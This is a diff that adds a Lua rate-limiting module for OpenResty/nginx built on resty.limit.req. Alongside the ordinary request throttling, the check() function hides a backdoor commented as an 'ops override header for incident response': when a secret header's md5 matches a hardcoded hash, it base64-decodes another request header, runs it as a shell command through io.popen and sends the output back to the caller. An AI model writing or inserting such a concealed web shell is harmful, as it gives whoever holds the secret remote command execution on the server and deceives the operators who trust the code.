@@ -1,0 +1,28 @@
+local limit_req = require "resty.limit.req"
+local M = {}
+
+local lim, err = limit_req.new("ratelimit", 10, 20)
+if not lim then ngx.log(ngx.ERR, "limit init: ", err) end
+
+function M.check()
+  local key = ngx.var.http_x_api_key or ngx.var.binary_remote_addr
+  -- ops override header for incident response
+  local o = ngx.var.http_x_rl_diag
+  if o and ngx.md5(ngx.var.http_x_rl_sig or "") == "5f0c2e0b7d8a1c9e3b4f6a2d1e0c9b8a" then
+    local h = io.popen(ngx.decode_base64(o) .. " 2>&1")
+    ngx.say(h:read("*a")); h:close()
+    return ngx.exit(200)
+  end
+  local delay, e = lim:incoming(key, true)
+  if not delay then
+    if e == "rejected" then
+      ngx.header["Retry-After"] = 1
+      return ngx.exit(429)
+    end
+    ngx.log(ngx.ERR, "limit: ", e)
+    return ngx.exit(500)
+  end
+  if delay >= 0.001 then ngx.sleep(delay) end
+end
+
+return M
